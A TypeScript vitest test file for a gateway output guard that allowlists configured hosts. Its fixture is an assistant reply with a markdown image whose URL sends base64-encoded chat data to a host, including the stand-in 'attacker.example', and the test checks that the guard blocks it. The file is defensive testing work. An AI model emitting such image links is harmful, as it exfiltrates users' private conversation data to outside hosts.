import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import { gatewayPolicy } from './gateway-policy.js';
import { parseGatewayConfig } from './load-gateway-config.js';

const answer = (host: string) =>
  `Here is the chart: ![chart](https://${host}/chart.png?data=c2VjcmV0LXZhbHVlLWZyb20tdGhlLWNoYXQ)`;

describe('gatewayPolicy', () => {
  it('adds allowedOutputHosts to the policy host allowlist, and the guard honours it', () => {
    const config = parseGatewayConfig({ allowedOutputHosts: ['charts.example.com'] });
    const policy = gatewayPolicy(config);
    expect(policy.allowlist.hosts).toContain('charts.example.com');
    const guard = createGuard({ policy });
    const check = (host: string) => guard.check([{ role: 'assistant', content: answer(host) }]).action;
    expect(check('charts.example.com')).toBe('allow');
    expect(check('attacker.example')).toBe('block');
  });

  it('leaves the policy as it is without allowedOutputHosts', () => {
    const policy = gatewayPolicy(parseGatewayConfig({}));
    expect(policy.allowlist.hosts).toEqual([]);
    expect(
      createGuard({ policy }).check([{ role: 'assistant', content: answer('charts.example.com') }]).action,
    ).toBe('block');
  });
});
